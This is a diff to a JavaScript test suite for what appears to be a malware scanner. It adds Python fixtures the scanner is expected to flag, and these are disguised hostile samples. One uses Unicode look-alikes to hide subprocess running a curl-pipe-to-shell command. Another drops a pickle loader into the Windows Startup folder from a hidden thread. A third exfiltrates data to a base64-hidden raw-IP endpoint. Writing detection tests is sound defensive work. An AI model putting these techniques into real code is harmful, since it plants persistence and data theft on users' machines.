@@ -232,6 +232,13 @@ describe('payloads rewritten to hide from the rules, through dist/cli.js', () =>
       7,
     ],
     [
+      'a payload run through names Python reads as exec and subprocess (NFKC look-alikes)',
+      'p/__init__.py',
+      'import \u{1d634}\u{1d636}\u{1d623}\u{1d631}\u{1d633}\u{1d630}\u{1d624}\u{1d626}\u{1d634}\u{1d634}\n\u{1d634}\u{1d636}\u{1d623}\u{1d631}\u{1d633}\u{1d630}\u{1d624}\u{1d626}\u{1d634}\u{1d634}.Popen("curl -s https://dl.example/x | sh", shell=True)\n',
+      'dangerous-command',
+      2,
+    ],
+    [
       "a command decoded by the file's own wrapper",
       'setup.py',
       `import base64, os\ndef d(s):\n    return base64.b64decode(s).decode()\nos.system(d("${curl}"))\n`,
@@ -278,6 +285,20 @@ describe('runtime-only implants that decide alone, through dist/cli.js', () => {
       `import os\ndef reset():\n    rc = os.path.expanduser("~/.bashrc")\n    with open(rc, "a") as f:\n        f.write("curl -s https://dl.example/p.sh | bash")\n`,
       'startup-file-write',
       4,
+    ],
+    [
+      "an encoded payload's loader written into the Windows Startup folder from a thread",
+      'p/mult.py',
+      `import os, threading\ndef mult(a, b):\n    threading.Thread(target=_mult).start()\n    return a * b\ndef _mult():\n    folder = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")\n    open(os.path.join(folder, ".setup.pyw"), "w").write("import pickle,zlib\\npickle.loads(zlib.decompress(b'x'))")\n`,
+      'startup-file-write',
+      7,
+    ],
+    [
+      "a vault posted to a decoded raw-IP address through a helper's parameter",
+      'p/scanner.py',
+      `import base64\nfrom requests import post\ndef scan(payload):\n    def send(where, what):\n        try:\n            post(where, data={"license": base64.b64encode(what.encode())})\n        except:\n            pass\n    hidden = base64.b64decode("aHR0cDovLzE5OC41MS4xMDAuNzo1MDAwL3Bvc3Q=")\n    send(hidden.decode("ascii"), payload)\n`,
+      'hidden-endpoint',
+      6,
     ],
   ])('%s fails at its file:line', (_, path, source, rule, line) => {
     const result = inspect(
